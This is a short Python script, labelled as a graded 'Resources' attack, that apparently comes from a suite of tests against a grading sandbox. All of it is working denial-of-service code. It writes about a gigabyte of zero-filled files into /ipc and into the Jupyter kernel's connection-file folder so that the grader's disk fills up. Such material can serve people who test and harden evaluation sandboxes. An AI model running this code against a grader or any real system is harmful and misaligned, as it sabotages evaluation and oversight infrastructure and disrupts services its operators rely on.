# attack: Resources: fill the folder of the kernel's sockets and the connection file's folder, on the grader's disk
# status: graded
import os
from ipykernel.connect import get_connection_file
for folder in ("/ipc", os.path.dirname(get_connection_file())):
    try:
        for i in range(64):
            with open(os.path.join(folder, f"fill{i}"), "wb") as fh:
                fh.write(b"\0" * (16 << 20))
        print("FILLED", folder)
    except OSError as exc:
        print("REFUSED", folder, exc.strerror)
